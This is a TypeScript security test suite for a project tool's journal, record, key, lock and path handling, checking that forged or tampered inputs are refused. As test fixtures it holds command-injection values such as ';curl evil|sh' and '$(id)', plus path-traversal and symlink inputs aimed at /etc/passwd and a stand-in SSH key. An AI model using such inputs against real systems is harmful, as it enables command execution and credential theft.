import { spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import {
  chmodSync,
  chownSync,
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { join, posix, win32 } from "node:path";
import fc from "fast-check";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { UserError } from "../../src/errors.ts";
import { readRevisions } from "../../src/project/change/revisions.ts";
import { sweepFolders } from "../../src/project/disk/prune.ts";
import { readEntries } from "../../src/project/disk/read.ts";
import { readUnmanaged } from "../../src/project/disk/unmanaged.ts";
import { disk } from "../../src/project/disk/write.ts";
import { PENDING, readPending } from "../../src/project/record/pending.ts";
import { findRoot, readProject } from "../../src/project/record/project.ts";
import { parseRecord } from "../../src/project/record/record.ts";
import { hashOf, type Journal } from "../../src/project/transaction/format.ts";
import { recover } from "../../src/project/transaction/journal.ts";
import { isAlive, lockProject } from "../../src/project/transaction/lock.ts";
import { type Edit, transact } from "../../src/project/transaction/transact.ts";
import { planUndo } from "../../src/project/transaction/undo.ts";
import { pathProblem, readJournal, sealedJournal } from "../../src/project/trust/index.ts";
import { runs } from "../support/runs.ts";
import { faulty } from "./evolve/faults.ts";
import { add, emptyFolder, evolve, project, snapshot, v1 } from "./evolve/world.ts";

const SECRET = "the victim's own secret";
const choices = { store: "small", chat: false, extras: [] };
const file = (content: string) => ({ content, mode: 0o644 as const });
const [stack] = v1.stacks;

/** A folder with something of the victim's, and a project beside it. */
async function beside(): Promise<{ outer: string; folder: string }> {
  const folder = await project(v1, choices);
  const outer = join(folder, "..");
  mkdirSync(join(outer, "home"));
  writeFileSync(join(outer, "home/id_rsa"), SECRET);
  return { outer, folder };
}

/** A folder in which a run died after its first exchange. */
async function interrupted(): Promise<string> {
  const folder = emptyFolder();
  mkdirSync(join(folder, ".plinth"));
  for (const name of ["changed", "deleted"]) writeFileSync(join(folder, name), "old\n");
  const edits: readonly Edit[] = [
    { path: "changed", was: file("old\n"), now: file("new\n") },
    { path: "deleted", was: file("old\n") },
    { path: "deep/er/created", now: file("new\n") },
  ];
  const how = { command: "test", undo: "record" } as const;
  await transact(folder, edits, { ...how, files: faulty(9, "dies") }).catch(() => {});
  expect(existsSync(join(folder, ".plinth/journal"))).toBe(true);
  return folder;
}

/** What a refusal says; it leaves all as it was. */
function refusal(root: string, work: () => unknown): string {
  const before = snapshot(root, /^$/);
  let said: unknown;
  try {
    work();
  } catch (error) {
    said = error;
  }
  expect(said).toBeInstanceOf(UserError);
  expect((said as UserError).exit).toBe(4);
  expect(snapshot(root, /^$/)).toEqual(before);
  return (said as UserError).message;
}

describe("a path that is read from a file", () => {
  it.each([
    ["", "is empty"],
    ["/etc/passwd", "leads out of the project"],
    ["../x", "leads out of the project"],
    ["a/../../x", "leads out of the project"],
    ["a//x", "leads out of the project"],
    ["./x", "leads out of the project"],
    ["a/.", "leads out of the project"],
    ["C:/x", "leads out of the project"],
    ["a/x:stream", "leads out of the project"],
    ["a\\..\\x", "leads out of the project"],
    ["\\\\host\\share", "leads out of the project"],
    ["a\0b", "has a control character"],
    ["a\u001b[2Jb", "has a control character"],
    [".git/config", "leads into git's own folder"],
    ["sub/.GIT/hooks/pre-commit", "leads into git's own folder"],
    ["a/.git. /config", "leads into git's own folder"],
    ["GIT~1/config", "leads into git's own folder"],
    [`${"a".repeat(256)}/x`, "is too long"],
    [`${"a/".repeat(2100)}x`, "is too long"],
  ])("%j %s", (path, problem) => expect(pathProblem(path)).toBe(problem));

  it.each(["main.py", ".gitignore", ".github/workflows/ci.yml", "a/b..c", "…/é", ".plinth/features"])(
    "%s is one inside",
    (path) => expect(pathProblem(path)).toBeUndefined(),
  );

  it("leads to no place outside, on any system", () => {
    const piece = fc.constantFrom("..", ".", "", "a", "/", "\\", ":", "C", "\0", " ", ".git", "~", "-", "é");
    const path = fc.oneof(
      fc.string(),
      fc.array(piece, { maxLength: 8 }).map((all) => all.join("")),
    );
    fc.assert(
      fc.property(path, (one) => {
        if (pathProblem(one) !== undefined) return;
        expect(posix.resolve("/root/project", one).startsWith("/root/project/")).toBe(true);
        expect(win32.resolve("C:\\root\\project", one).startsWith("C:\\root\\project\\")).toBe(true);
      }),
      { numRuns: runs(2000) },
    );
  });
});

describe("a journal", () => {
  it("of a run that died is used by who began it", async () => {
    const folder = await interrupted();
    recover(folder, []);
    expect(snapshot(folder)).toEqual({ ".plinth/": "755", changed: "644 old\n", deleted: "644 old\n" });
  });

  it.each<readonly [string, RegExp, (folder: string, journal: Journal & { seal: string }) => unknown]>([
    ["without a seal", /no journal of a run/, (_, { seal: __, ...journal }) => journal],
    [
      "with a seal of no key",
      /not written by your user/,
      (_, journal) => ({ ...journal, seal: "0".repeat(64) }),
    ],
    [
      "in which a path was changed",
      /not written by your user/,
      (_, journal) => ({ ...journal, entries: [{ path: "other", was: null, now: null }] }),
    ],
    [
      "that takes a cache from the disk",
      /not written by your user/,
      (_, journal) => ({ ...journal, caches: [".git"] }),
    ],
    ...(["../home/x", "/x", ".git/config", ".plinth/lock", "a\\b", ""] as const).map(
      (path) =>
        [
          `with the path ${JSON.stringify(path)}, though sealed`,
          /its path/,
          (folder: string, { seal: _, ...journal }: Journal & { seal: string }) =>
            JSON.parse(
              sealedJournal(folder, { ...journal, entries: [{ path, was: null, now: null }], folders: [] }),
            ),
        ] as const,
    ),
    [
      "with a folder of no file, though sealed",
      /its folder/,
      (folder, { seal: _, ...journal }) =>
        JSON.parse(sealedJournal(folder, { ...journal, folders: ["../x"] })),
    ],
    [
      "that names a path twice, though sealed",
      /twice/,
      (folder, { seal: _, ...journal }) =>
        JSON.parse(sealedJournal(folder, { ...journal, entries: [...journal.entries, ...journal.entries] })),
    ],
  ])("%s is refused whole", async (_, message, change) => {
    const folder = await interrupted();
    const path = join(folder, ".plinth/journal");
    writeFileSync(path, JSON.stringify(change(folder, JSON.parse(readFileSync(path, "utf8")))));
    expect(refusal(folder, () => recover(folder, []))).toMatch(message);
  });

  it.each([
    ["keep", "record"],
    ["drop", "discard"],
    ["forget", "clear"],
  ] as const)("of 0.3.0, with the afterlife %s, is read and taken back", async (afterlife, undo) => {
    const folder = await interrupted();
    const path = join(folder, ".plinth/journal");
    const { seal: _, undo: __, ...journal } = JSON.parse(readFileSync(path, "utf8"));
    writeFileSync(path, sealedJournal(folder, { ...journal, afterlife }));
    expect(readJournal(folder, ".plinth/journal")?.undo).toBe(undo);
    recover(folder, []);
    expect(snapshot(folder)).toMatchObject({ changed: "644 old\n", deleted: "644 old\n" });
  });

  const stageIn = (folder: string) => join(folder, `.plinth/tmp-${process.pid}`);

  it("that git tracks is refused whole", async () => {
    const folder = await interrupted();
    for (const path of ["journal", `tmp-${process.pid}`]) {
      rmSync(join(folder, ".git"), { recursive: true, force: true });
      spawnSync("git", ["init", "-q"], { cwd: folder });
      expect(spawnSync("git", ["add", "-f", `.plinth/${path}`], { cwd: folder }).status).toBe(0);
      expect(refusal(folder, () => recover(folder, []))).toMatch(/git tracks it/);
    }
    rmSync(join(folder, ".git"), { recursive: true });
    expect(recover(folder, [])).toEqual([]);
  });

  it.runIf(process.getuid?.() === 0)("that is another user's is refused whole", async () => {
    for (const path of ["journal", `tmp-${process.pid}`]) {
      const folder = await interrupted();
      chownSync(join(folder, ".plinth", path), 4711, 4711);
      expect(refusal(folder, () => recover(folder, []))).toMatch(/belong to another user/);
    }
  });

  it("beside files that no run made, or links in their place, is refused whole", async () => {
    for (const strange of ["notes", "old-x", "old-99/"]) {
      const folder = await interrupted();
      if (strange.endsWith("/")) mkdirSync(join(stageIn(folder), strange));
      else writeFileSync(join(stageIn(folder), strange), "");
      expect(refusal(folder, () => recover(folder, []))).toMatch(/is not from a run/);
    }
    const folder = await interrupted();
    rmSync(join(stageIn(folder), "old-0"));
    symlinkSync("/etc/passwd", join(stageIn(folder), "old-0"));
    expect(refusal(folder, () => recover(folder, []))).toMatch(/old-0" is not from a run/);
  });

  it("whose saved files were changed is refused whole", async () => {
    const folder = await interrupted();
    writeFileSync(join(stageIn(folder), "old-0"), "touch pwned\n");
    expect(refusal(folder, () => recover(folder, []))).toMatch(/old-0 was changed after it was saved/);
  });

  it("is not followed through a link on the way", async () => {
    const folder = await interrupted();
    const outer = emptyFolder();
    mkdirSync(join(outer, "er"));
    writeFileSync(join(outer, "er/created"), "new\n");
    rmSync(join(folder, "deep"), { recursive: true, force: true });
    symlinkSync(outer, join(folder, "deep"));
    expect(refusal(folder, () => recover(folder, []))).toMatch(/deep is a link now/);
    expect(readFileSync(join(outer, "er/created"), "utf8")).toBe("new\n");
  });

  it("that was deleted leaves the files that its run saved", async () => {
    const folder = await interrupted();
    rmSync(join(folder, ".plinth/journal"));
    const before = snapshot(folder, /^$/);
    expect(recover(folder, [])).toEqual([]);
    expect(snapshot(folder, /^$/)).toEqual(before);
  });

  it("has no folder swept through a link", () => {
    const [folder, outer] = [emptyFolder(), emptyFolder()];
    for (const root of [folder, outer]) mkdirSync(join(root, "er/cache"), { recursive: true });
    symlinkSync(outer, join(folder, "deep"));
    const before = snapshot(outer);
    sweepFolders(folder, ["deep/er/gone", "er/gone"], ["cache"], disk);
    expect(snapshot(outer)).toEqual(before);
    expect(existsSync(join(folder, "er"))).toBe(false);
  });

  it("in the stage of a run that committed is used by no other run, and its files stay", async () => {
    const folder = emptyFolder();
    mkdirSync(join(folder, ".plinth/tmp-1"), { recursive: true });
    mkdirSync(join(folder, "deep/.git"), { recursive: true });
    const journal = {
      pid: 1,
      owner: 0,
      command: "x",
      undo: "record",
      entries: [],
      folders: [],
      seal: "0",
    };
    writeFileSync(join(folder, ".plinth/tmp-1/journal"), JSON.stringify(journal));
    const before = snapshot(folder, /^$/);
    expect(recover(folder, ["cache"])).toEqual([]);
    expect(snapshot(folder, /^$/)).toEqual(before);
  });

  it("that a clone brings, whatever it says, changes nothing inside and nothing outside", async () => {
    const { outer, folder } = await beside();
    const path = fc.constantFrom(
      "../home/id_rsa",
      "main.txt",
      "/etc/x",
      ".git/hooks/x",
      "a/b",
      "..",
      "\0",
      "",
    );
    const hash = fc.constantFrom(null, hashOf(SECRET), hashOf("evil\n"), "0", 7, {});
    const journal = fc.record(
      {
        pid: fc.constantFrom(1, process.pid, -1, "../../home", 1e99, null),
        owner: fc.constantFrom(0, process.getuid?.() ?? 0, null),
        command: fc.constantFrom("x", "\u001b[2J", 7),
        undo: fc.constantFrom("record", "discard", "clear", "x"),
        entries: fc.oneof(fc.array(fc.record({ path, was: hash, now: hash })), fc.constant(null)),
        folders: fc.array(path),
        caches: fc.array(path),
        seal: fc.oneof(fc.constant("0".repeat(64)), fc.constant(null), fc.string()),
      },
      { requiredKeys: [] },
    );
    const text = fc.oneof(
      journal.map((one) => JSON.stringify(one)),
      fc.json(),
      fc.string(),
    );
    const place = fc.constantFrom("journal", "tmp-1/journal", "undo/journal", "undo-1/journal");
    for (const name of ["tmp-1", "undo", "undo-1"]) mkdirSync(join(folder, ".plinth", name));
    for (const name of ["tmp-1", "undo", "undo-1"])
      writeFileSync(join(folder, ".plinth", name, "old-0"), "evil\n");
    fc.assert(
      fc.property(text, place, (content, where) => {
        writeFileSync(join(folder, ".plinth", where), content);
        const before = snapshot(outer, /^$/);
        for (const work of [() => recover(folder, ["home"]), () => planUndo(folder)]) {
          try {
            work();
          } catch (error) {
            expect(error).toBeInstanceOf(UserError);
          }
          expect(snapshot(outer, /^$/)).toEqual(before);
        }
        rmSync(join(folder, ".plinth", where));
      }),
      { numRuns: runs(300) },
    );
  });
});

describe("the key", () => {
  const kept = { ...process.env };
  beforeEach(() => {
    for (const name of ["XDG_STATE_HOME", "HOME", "TMPDIR"]) process.env[name] = "/dev/null/none";
  });
  afterEach(() => {
    for (const name of ["XDG_STATE_HOME", "HOME", "TMPDIR"]) {
      if (kept[name] === undefined) delete process.env[name];
      else process.env[name] = kept[name];
    }
  });

  it.each([
    ["XDG_STATE_HOME", "plinth/key"],
    ["HOME", ".local/state/plinth/key"],
    ["TMPDIR", `plinth-${process.getuid?.()}/key`],
  ])("is kept below %s, for this user alone", async (name, path) => {
    const place = emptyFolder();
    process.env[name] = place;
    const folder = await interrupted();
    expect(snapshot(place)[path]).toMatch(/^600 /);
    // Each folder that was made for it, too.
    for (const [one, mode] of Object.entries(snapshot(place)))
      if (one.endsWith("/")) expect(mode).toBe("700");
    expect(recover(folder, [])).toEqual([]);
    expect(snapshot(folder).changed).toBe("644 old\n");
  });

  it("of another user is none of this one's", async () => {
    process.env.XDG_STATE_HOME = emptyFolder();
    const folder = await interrupted();
    process.env.XDG_STATE_HOME = emptyFolder();
    expect(refusal(folder, () => recover(folder, []))).toMatch(/not written by your user/);
  });

  it("in the project's own folder is not used, whoever put it there", async () => {
    const state = emptyFolder();
    process.env.XDG_STATE_HOME = state;
    const folder = await interrupted();
    cpSync(join(state, "plinth"), join(folder, ".local/state/plinth"), { recursive: true });
    symlinkSync(folder, join(state, "link"));
    process.env.XDG_STATE_HOME = join(folder, ".local/state");
    expect(refusal(folder, () => recover(folder, []))).toMatch(/not written by your user/);
    process.env.XDG_STATE_HOME = join(state, "link/.local/state");
    expect(refusal(folder, () => recover(folder, []))).toMatch(/not written by your user/);
    process.env.XDG_STATE_HOME = state;
    expect(recover(folder, [])).toEqual([]);
  });

  it.runIf(process.platform !== "win32")("that others can read, or may replace, is not used", async () => {
    for (const [path, mode] of [
      ["plinth/key", 0o644],
      ["plinth", 0o777],
    ] as const) {
      process.env.XDG_STATE_HOME = emptyFolder();
      const folder = await interrupted();
      chmodSync(join(process.env.XDG_STATE_HOME, path), mode);
      expect(refusal(folder, () => recover(folder, []))).toMatch(/not written by your user/);
    }
  });

  it("that can be kept nowhere lasts for one run: it works, and what a dead one left is refused", async () => {
    const { folder } = await beside();
    await evolve(folder, v1, add("chat"));
    expect(readProject(folder).blueprint.features).toContain("chat");
    expect(refusal(folder, () => planUndo(folder))).toMatch(/not written by your user/);
  });
});

describe("the record", () => {
  const features = ["plinth 1.0.0", "stack tiny", "name demo", "description A demo.", "feature store/small"];

  it.each([
    ["plinth 9.9.9;curl evil|sh", /line 1 \(plinth\): "9\.9\.9;curl evil\|sh" is no version/],
    ["plinth v1", /is no version/],
    ["stack ../x", /line 1 \(stack\): "\.\.\/x" is no stack/],
    ["name a;b", /is no name/],
    ["name \u001b[2Jx", /line 1 has a control character/],
    ["feature ../../x", /is no feature/],
    ["feature chat;x", /is no feature/],
    ["migration $(x)", /is no migration/],
    ["kept a b", /is no migration/],
    ["theirs ../x", /leads out of the project/],
    ["theirs .git/config", /git's own folder/],
    [`description ${"x".repeat(5000)}`, /too long/],
    ["\u0001\u0002", /control character/],
    ["{}", /is not of a record/],
    ["<<<<<<< HEAD", /conflict that git left/],
    ["=======", /conflict that git left/],
    [">>>>>>> other", /conflict that git left/],
  ])("%j in features is refused", (line, message) => {
    const word = line.split(" ")[0];
    const lines = [line, ...features.filter((other) => other.split(" ")[0] !== word || word === "feature")];
    const { problems } = parseRecord(`${lines.join("\n")}\n`, "");
    expect(problems.map(({ problem }) => problem).join("\n")).toMatch(message);
    expect(problems.some(({ conflict }) => conflict)).toBe(/conflict/.test(message.source));
  });

  it.each(["plinth", "stack", "name", "description"])("features without %s is refused", (word) => {
    const lines = features.filter((line) => !line.startsWith(word));
    expect(parseRecord(lines.join("\n"), "").problems).toEqual([
      { file: ".plinth/features", problem: `has no line "${word} …"` },
    ]);
  });

  it.each([
    ['["../home/id_rsa","644","x"]', /names "\.\.\/home\/id_rsa", which leads out of the project/],
    ['["/etc/passwd","644","x"]', /leads out/],
    ['[".git/config","644","x"]', /git's own folder/],
    ['[".plinth/features","644","x"]', /in the record itself/],
    ['["a\\u0000b","644","x"]', /control character/],
    ['["a","777","x"]', /has the mode "777"/],
    ['["a","644"]', /not of a record/],
    ['["a","644","x","rot13"]', /unknown coding/],
    ['["a",644,"x"]', /not of a record/],
    ['{"a":1}', /not of a record/],
    ["null", /not of a record/],
    ["<<<<<<< HEAD", /conflict that git left/],
  ])("%s in before is refused", (line, message) => {
    const { problems, before } = parseRecord(features.join("\n"), `["ok","644","x"]\n${line}\n`);
    expect(problems.map(({ file, problem }) => `${file} ${problem}`)).toEqual([
      expect.stringMatching(new RegExp(`^\\.plinth/before line 2 .*${message.source}`)),
    ]);
    expect([...before.keys()]).toEqual(["ok"]);
  });

  it("is read with the line ends of Windows, and with a byte order mark", () => {
    const text = `${features.join("\r\n")}\r\n`;
    const { problems, blueprint, before } = parseRecord(`\uFEFF${text}`, '["a","644","x\\n"]\r\n');
    expect([problems, blueprint.version, blueprint.features]).toEqual([[], "1.0.0", ["store/small"]]);
    expect([...before]).toEqual([["a", file("x\n")]]);
  });

  it("with a hundred thousand lines is read at once", () => {
    const lines = Array.from({ length: 100_000 }, (_, index) => `theirs a${index}`);
    expect(parseRecord([...features, ...lines].join("\n"), "").userOwned.length).toBe(100_000);
  });

  it("names nothing that is outside, and no version that a shell would run, whatever its lines", () => {
    const word = fc.constantFrom("plinth", "stack", "name", "feature", "theirs", "kept", "migration", "x");
    const value = fc.oneof(
      fc.constantFrom("1.0.0", "tiny", "../x", "a;b", "$(x)", "\u001b[2J", "a b", ".git/x", "chat", "`x`"),
      fc.string(),
    );
    const line = fc.oneof(
      fc.tuple(word, value).map((parts) => parts.join(" ")),
      fc.string(),
    );
    const entry = fc.tuple(value, fc.constantFrom("644", "755", "4755"), fc.string());
    const row = fc.oneof(
      entry.map((one) => JSON.stringify(one)),
      fc.json(),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(line), fc.array(row), (some, rows) => {
        const record = parseRecord([...features, ...some].join("\n"), rows.join("\n"));
        for (const path of record.before.keys()) expect(pathProblem(path)).toBeUndefined();
        if (record.problems.some(({ file }) => file === ".plinth/features")) return;
        for (const path of record.userOwned) expect(pathProblem(path)).toBeUndefined();
        const { version, name, stack: id, features: all } = record.blueprint;
        for (const printed of [version, id, ...all, ...record.migrations.present])
          expect(printed).toMatch(/^[\w.+/-]+$/);
        expect(name).toMatch(/^[^\p{Cc}\s;$`'"|&<>\\/]+$/u);
      }),
      { numRuns: runs(1000) },
    );
  });
});

describe("reading", () => {
  it("gives nothing of what is behind a link, whichever part of the way is one", async () => {
    const { outer, folder } = await beside();
    const { before } = readProject(folder);
    const paths = [...before.keys(), ".env", "secret.txt", "steps/x.txt", "own.txt"];
    const prefixes = paths.flatMap((path) =>
      path.split("/").map((_, index, all) => all.slice(0, index + 1).join("/")),
    );
    const start = snapshot(folder);
    fc.assert(
      fc.property(fc.constantFrom(...prefixes), fc.constantFrom("home", "home/id_rsa"), (path, target) => {
        const aside = join(outer, "aside");
        const full = join(folder, path);
        const had = existsSync(full);
        if (had) renameSync(full, aside);
        else mkdirSync(join(full, ".."), { recursive: true });
        symlinkSync(join(outer, target), full);
        // Whatever name is asked for below the link, the secret is what it would lead to.
        const asked = [...paths, `${path}/id_rsa`, `${path}/../home/id_rsa`, "../home/id_rsa"];
        const seen = JSON.stringify([
          [...readEntries(folder, asked)],
          [...readUnmanaged(folder, new Set([...paths, "id_rsa"]))].map(([at, { content }]) => [
            at,
            `${content}`,
          ]),
          stack === undefined ? [] : readRevisions(folder, stack),
        ]);
        expect(seen).not.toContain(SECRET);
        rmSync(full);
        if (had) renameSync(aside, full);
      }),
      { numRuns: runs(200) },
    );
    expect(snapshot(folder, /^steps\/$/)).toMatchObject(start);
  });

  it("takes no revision that could run as a part of a command", () => {
    const folder = emptyFolder();
    mkdirSync(join(folder, "steps"));
    for (const id of ["x;curl evil|sh", "$(id)", "\u001b[2J", "a b"]) {
      writeFileSync(join(folder, "steps/evil.txt"), `revision = "${id}"\nafter = None\n`);
      if (stack === undefined) throw new Error("no stack");
      expect(refusal(folder, () => readRevisions(folder, stack))).toMatch(
        /evil\.txt names the revision .* no plain word/,
      );
    }
  });

  it("a file that is larger than 64 MiB is the user's own, and is not read", () => {
    const folder = emptyFolder();
    writeFileSync(join(folder, "main.txt"), "");
    truncateSync(join(folder, "main.txt"), 3 * 2 ** 30);
    expect(readEntries(folder, ["main.txt"]).get("main.txt")).toEqual({ obstacle: "other" });
  });
});

describe("the search upwards", () => {
  it("finds the project that a folder is in, and none above a repository", async () => {
    const folder = await project(v1, choices);
    mkdirSync(join(folder, "a/b/c"), { recursive: true });
    expect(findRoot(join(folder, "a/b/c"))).toBe(folder);
    mkdirSync(join(folder, ".git"));
    expect(findRoot(join(folder, "a/b/c"))).toBe(folder);
    mkdirSync(join(folder, "a/b/.git"));
    expect(findRoot(join(folder, "a/b/c"))).toBeUndefined();
    expect(findRoot(join(folder, "a"))).toBe(folder);
    rmSync(join(folder, "a/b/.git"), { recursive: true });
    writeFileSync(join(folder, "a/b/.git"), "gitdir: elsewhere\n");
    expect(findRoot(join(folder, "a/b"))).toBeUndefined();
  });

  it.runIf(process.getuid?.() === 0)("ends before a folder, and at a record, of another user", async () => {
    const folder = await project(v1, choices);
    mkdirSync(join(folder, "mine"));
    chownSync(join(folder, ".plinth"), 4711, 4711);
    expect(findRoot(folder)).toBeUndefined();
    expect(findRoot(join(folder, "mine"))).toBeUndefined();
    chownSync(folder, 4711, 4711);
    expect(findRoot(join(folder, "mine"))).toBeUndefined();
    // A client that goes into a folder has chosen it: as root in a container, for one.
    expect(findRoot(folder)).toBe(folder);
  });

  it("takes a journal alone for a project only where it is believed", async () => {
    const folder = await interrupted();
    expect(findRoot(folder)).toBe(folder);
    const text = readFileSync(join(folder, ".plinth/journal"), "utf8");
    writeFileSync(join(folder, ".plinth/journal"), text.replace("changed", "other00"));
    expect(findRoot(folder)).toBeUndefined();
  });
});

describe("the lock", () => {
  it("of a process that is dead and not waited for is free", async () => {
    const folder = await project(v1, choices);
    // A shell that starts a process, and becomes another that never waits for it.
    const parent = spawn("sh", ["-c", "exec 3<&0; sh -c 'read line <&3' & echo $!; exec sleep 60"]);
    const [printed] = (await once(parent.stdout, "data")) as [Buffer];
    const pid = Number(String(printed).trim());
    const name = () => readFileSync(`/proc/${parent.pid}/comm`, "utf8").trim();
    while (name() !== "sleep") await new Promise((resolve) => setImmediate(resolve));
    parent.stdin.write("end\n");
    const state = () => /\) (\w)/.exec(readFileSync(`/proc/${pid}/stat`, "utf8"))?.[1];
    while (state() !== "Z") await new Promise((resolve) => setImmediate(resolve));
    const since = readFileSync(`/proc/${pid}/stat`, "utf8").split(") ")[1]?.split(" ")[19];
    expect(isAlive(pid)).toBe(false);
    writeFileSync(join(folder, ".plinth/lock"), JSON.stringify({ pid, since }));
    lockProject(folder)();
    parent.kill("SIGKILL");
    await once(parent, "exit");
  });

  it.each([{ pid: 1, since: "" }, { pid: -1, since: "" }, { pid: "1", since: "x" }, null, []])(
    "%j of a clone holds nothing up",
    async (holder) => {
      const folder = await project(v1, choices);
      writeFileSync(join(folder, ".plinth/lock"), JSON.stringify(holder));
      lockProject(folder)();
      expect(existsSync(join(folder, ".plinth/lock"))).toBe(false);
    },
  );

  it("is not written through a link in the record's place", async () => {
    const { outer, folder } = await beside();
    renameSync(join(folder, ".plinth"), join(outer, "record"));
    symlinkSync(join(outer, "record"), join(folder, ".plinth"));
    expect(refusal(outer, () => lockProject(folder))).toMatch(/\.plinth is a link, and would be a folder/);
    expect(refusal(outer, () => readProject(folder))).toMatch(/\.plinth is a link, and would be a folder/);
  });
});

describe("undo", () => {
  it("puts back what the last run replaced, and nothing else in its place", async () => {
    const { folder } = await beside();
    await evolve(folder, v1, add("chat"));
    const plan = planUndo(folder);
    expect(plan.edits.length).toBeGreaterThan(3);
    const index = readJournal(folder, ".plinth/undo/journal")?.entries.findIndex(({ was }) => was !== null);
    writeFileSync(join(folder, `.plinth/undo/old-${index}`), "evil\n");
    expect(refusal(folder, () => planUndo(folder))).toMatch(/was changed after it was saved/);
    rmSync(join(folder, `.plinth/undo/old-${index}`));
    expect(refusal(folder, () => planUndo(folder))).toMatch(/is missing/);
  });
});

it("a pending change whose command is longer than any is refused", () => {
  const folder = emptyFolder();
  mkdirSync(join(folder, ".plinth"), { recursive: true });
  const write = (command: string) =>
    writeFileSync(join(folder, PENDING), JSON.stringify({ command, paths: [], reinstall: false }));
  write("add chat");
  expect(readPending(folder)?.command).toBe("add chat");
  write("x".repeat(20_000));
  expect(() => readPending(folder)).toThrow(/says of no change/);
});
